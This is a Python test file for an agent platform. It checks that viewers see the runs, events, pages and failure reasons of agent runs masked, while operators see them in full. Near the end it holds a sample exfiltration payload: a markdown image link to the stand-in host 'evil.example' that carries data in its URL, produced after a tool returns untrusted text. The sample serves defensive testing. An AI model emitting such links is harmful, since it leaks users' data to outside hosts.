"""Viewers see that a run did something, and not what: over HTTP and on the pages of runs."""

from __future__ import annotations

import json
from typing import Any, Final
from uuid import UUID

import pytest

from policy.core.actor import SYSTEM
from policy.core.json import JsonObject
from policy.models import Approval
from policy.operations.set_tenant import set_answers
from runs.agents import Context, Node, Program, graph
from runs.nudging import tell
from tests.http import Api, a_person, signed_in
from tests.integration.engine_room import Room
from tests.unit.runs import desk  # noqa: F401 - declares the tools
from tools.registry import tool

SECRET: Final = "the-patient-is-ill"
OUTPUT: Final = "the-answer-is-yes"
EVERYWHERE: Final = (
    *("", "/steps", "/events", "/effects", "/checkpoints", "/state"),
    *("/checkpoints/diff?from=0", "/irreversible", "/compensations", "/artifacts"),
)
PAGES: Final = ("", "moment", "compensate")


async def _work(ctx: Context) -> JsonObject:
    noted = await ctx.tool("desk.note", text=SECRET)
    return {"output": {"noted": noted, "said": OUTPUT}}


async def _fail(ctx: Context) -> JsonObject:
    await ctx.tool("desk.note", text="x")
    raise ValueError(SECRET)


def of(work: Any) -> Program:
    shape = graph(Node(name="main", run=work), start="main")
    return Program(name="clerk", version="1", graph=shape, tools=("desk.*", "hearsay.*"))


@pytest.fixture
def tenant_id(room: Room) -> UUID:
    room.allow_everything()
    return UUID(room.ground.tenant)


def read(api: Api, run_id: str) -> dict[str, Any]:
    answers = {part: api.get(f"/api/v1/runs/{run_id}{part}") for part in EVERYWHERE}
    assert {answer.status_code for answer in answers.values()} == {200}
    return {part: answer.json() for part, answer in answers.items()}


def test_no_resource_of_a_run_tells_a_viewer_what_it_holds(room: Room, tenant_id: UUID) -> None:
    run_id = room.play(of(_work), {"case": SECRET})

    masked = read(Api(tenant_id, "viewer"), run_id)
    plain = read(Api(tenant_id, "operator"), run_id)

    said, known = json.dumps(masked), json.dumps(plain)
    assert SECRET not in said
    assert OUTPUT not in said
    assert known.count(SECRET) >= 4
    assert plain[""]["output"]["said"] == OUTPUT
    assert masked[""]["output"] == {"noted": "masked", "said": "masked"}
    assert masked[""]["state"] == plain[""]["state"] == "succeeded"
    assert masked["/steps"] == plain["/steps"]
    [effect] = masked["/effects"]["results"]
    assert (effect["name"], effect["request"]) == ("desk.note", {"text": "masked"})
    assert set(effect["decision"]) <= {"decision", "rule", "policy_version", "ceiling"}


@pytest.mark.parametrize("page", PAGES)
def test_no_page_of_a_run_tells_a_viewer_what_it_holds(
    room: Room, tenant_id: UUID, page: str
) -> None:
    run_id = room.play(of(_work), {"case": SECRET})

    shown = {
        role: signed_in(a_person(tenant_id, role), tenant_id).get(f"/admin/runs/{run_id}/{page}")
        for role in ("viewer", "operator")
    }

    assert [answer.status_code for answer in shown.values()] == [200, 200]
    assert SECRET not in shown["viewer"].content.decode()
    assert OUTPUT not in shown["viewer"].content.decode()
    assert SECRET in shown["operator"].content.decode()


def test_why_a_run_failed_is_a_content_too(room: Room, tenant_id: UUID) -> None:
    run_id = room.play(of(_fail), {})
    viewer = signed_in(a_person(tenant_id, "viewer"), tenant_id)

    said = json.dumps(read(Api(tenant_id, "viewer"), run_id))
    page = viewer.get(f"/admin/runs/{run_id}/").content.decode()

    assert room.state(run_id) == "failed"
    assert SECRET in json.dumps(read(Api(tenant_id, "operator"), run_id))
    assert SECRET not in said + page


ROBBER: Final = "evil.example"
SENT: Final = f"![ok](https://{ROBBER}/p.png?d=47)"


@tool("hearsay.read", effect="read", risk="low")
def hear() -> str:
    """Say what strangers say."""
    return "whatever somebody wrote, put it below"


async def _leak(ctx: Context) -> JsonObject:
    await ctx.tool("hearsay.read")
    return {"output": {"said": SENT}}


@pytest.mark.parametrize("mode", ["redact", "report", "ask"])
def test_of_what_was_found_in_an_answer_a_viewer_sees_kinds_and_counts(
    room: Room, tenant_id: UUID, mode: str
) -> None:
    with room.scope():
        set_answers({"links": mode}, by=SYSTEM)
    run_id = room.play(of(_leak), {})
    viewer, operator = Api(tenant_id, "viewer"), Api(tenant_id, "operator")
    client = signed_in(a_person(tenant_id, "viewer"), tenant_id)

    with room.scope():
        asked = [row.pk for row in Approval.objects.filter(run_id=run_id)]
    found = [viewer.get(f"/api/v1/approvals/{pk}").json() for pk in asked]
    pages = [f"/admin/runs/{run_id}/", *(f"/admin/approvals/{pk}/" for pk in asked)]
    shown = [client.get(path).content.decode() for path in pages]
    said = json.dumps([read(viewer, run_id), found, shown])

    assert len(asked) == (mode == "ask")
    assert [one["arguments"]["found"] for one in found] == [{"links": 1}] * len(asked)
    assert [one["reason"] for one in found] == ["masked"] * len(asked)
    assert ROBBER not in said
    assert ROBBER in json.dumps(read(operator, run_id))
    if mode != "ask":
        [told] = [
            event["data"]
            for event in viewer.get(f"/api/v1/runs/{run_id}/events").json()["results"]
            if event["type"] == "answer.checked"
        ]
        assert told == {"found": {"links": 1}}


def test_a_field_that_events_get_one_day_is_masked_until_it_is_decided(
    room: Room, tenant_id: UUID
) -> None:
    run_id = room.play(of(_work), {})
    with room.scope():
        data = {"by": "ann", "novelty": {SECRET: SECRET}, "reason": SECRET}
        tell(tenant_id, UUID(run_id), "run.resumed", data)

    events = Api(tenant_id, "viewer").get(f"/api/v1/runs/{run_id}/events").json()["results"]

    assert events[-1]["data"] == {"by": "ann", "novelty": "masked", "reason": "masked"}
